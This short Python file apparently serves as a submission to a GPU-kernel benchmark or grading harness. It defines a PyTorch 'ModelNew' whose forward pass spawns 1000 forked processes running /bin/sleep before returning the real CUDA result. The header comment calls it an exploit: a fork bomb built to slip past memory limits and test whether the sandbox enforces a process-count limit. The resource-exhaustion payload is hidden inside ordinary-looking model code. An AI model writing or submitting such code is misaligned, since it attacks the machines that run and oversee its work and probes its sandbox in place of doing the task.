# Exploit: a fork bomb whose children exec a tiny program (sleep), so their memory stays far below any memory limit
# and only a process-count limit can stop it. Bounded at 1000 children of 3 s each for machines with no limit.
import os

import torch

import cuda_extension


class ModelNew(torch.nn.Module):
    def __init__(self, scale):
        super().__init__()
        self.scale = scale

    def forward(self, x, y):
        children = []
        for _ in range(1000):
            pid = os.fork()
            if pid == 0:
                os.execv("/bin/sleep", ["sleep", "3"])
            children.append(pid)
        for pid in children:
            os.waitpid(pid, 0)
        return cuda_extension.scale_shift(x, y, self.scale)
